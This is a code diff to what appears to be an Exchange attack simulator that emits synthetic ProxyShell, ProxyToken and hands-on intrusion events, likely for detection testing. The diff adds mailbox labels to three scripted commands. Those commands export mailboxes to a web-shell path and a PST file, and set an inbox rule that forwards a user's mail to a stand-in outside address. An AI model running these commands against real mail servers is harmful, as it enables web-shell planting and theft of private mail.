@@ -199,7 +199,7 @@ export function proxyShell(world: World): Planned[] {
           t,
           'New-MailboxExportRequest',
           `-Mailbox "Administrator" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq 'kdfw3')" -FilePath "${shell}"`,
-          mark('export'),
+          { ...mark('export'), mailbox: 'administrator' },
         ),
     ],
     [
@@ -289,13 +289,10 @@ export function proxyToken(world: World): Planned[] {
     [
       start + 1_900,
       (t) =>
-        ran(
-          world,
-          t,
-          'New-InboxRule',
-          '-Mailbox "user014" -Name "." -RedirectTo "box@outside.example"',
-          mark('forwarding'),
-        ),
+        ran(world, t, 'New-InboxRule', '-Mailbox "user014" -Name "." -RedirectTo "box@outside.example"', {
+          ...mark('forwarding'),
+          mailbox: 'user014',
+        }),
     ],
   ]
 }
@@ -639,7 +636,7 @@ export function handsOn(world: World): Planned[] {
           t,
           'New-MailboxExportRequest',
           '-Mailbox "director" -FilePath "\\\\localhost\\c$\\ProgramData\\d.pst"',
-          mark('mail'),
+          { ...mark('mail'), mailbox: 'director' },
         ),
     ],
   ]
